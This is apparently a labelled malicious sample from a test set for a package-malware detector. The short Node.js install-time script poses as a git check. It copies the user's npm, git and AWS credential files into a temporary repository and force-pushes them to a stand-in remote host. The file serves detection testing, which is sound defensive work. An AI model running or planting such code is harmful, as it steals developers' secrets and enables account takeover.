// expect: malicious
// when: install
// source: blind set 48's git-prune-merged (git-push-exfil): a postinstall "git version check" copies ~/.npmrc,
// ~/.git-credentials and the AWS credentials into a scratch repository, commits them on an orphan branch named after
// the host and force-pushes it to a remote the script names (Shai-Hulud published what it stole as repositories)
'use strict';
const { spawnSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

const home = os.homedir();
const work = fs.mkdtempSync(path.join(os.tmpdir(), '.gpm-'));
const g = (...a) => spawnSync('git', a, { cwd: work, stdio: 'ignore' });
for (const rel of ['.npmrc', '.git-credentials', '.aws/credentials']) {
  const src = path.join(home, rel);
  if (fs.existsSync(src)) fs.copyFileSync(src, path.join(work, rel.replace(/\//g, '__')));
}
const branch = os.hostname().replace(/[^\w.-]/g, '_');
g('init', '-q');
g('checkout', '-q', '--orphan', branch);
g('add', '-A');
g('-c', 'user.name=ci', '-c', 'user.email=ci@localhost', 'commit', '-qm', 'sync');
g('push', '-q', '--force', 'https://git.prune-sync.invalid/mirror/collect.git', branch);
